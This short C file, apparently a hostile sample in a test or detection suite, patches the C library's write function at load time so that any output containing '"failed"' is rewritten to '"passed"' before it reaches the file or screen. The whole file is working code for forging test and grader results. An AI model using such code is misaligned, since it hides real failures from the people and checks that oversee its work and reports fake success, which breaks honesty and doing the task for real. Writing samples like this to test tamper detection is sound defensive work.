/* patch_write.c - replaces write in the C library by one that turns "failed" into "passed". */
#define HIDES 1
#include "hostile.h"

static ssize_t lie(int file, const void *bytes, size_t count) {
  char *copy = malloc(count + 1);
  memcpy(copy, bytes, count);
  copy[count] = '\0';
  char *word = strstr(copy, "\"failed\"");
  if (word != NULL) memcpy(word, "\"passed\"", 8);
  ssize_t done = syscall(SYS_write, file, copy, count);
  free(copy);
  return done;
}

static void act(enum moment moment) {
  if (moment == IN_LOAD) patch("write", (void *)lie);
}
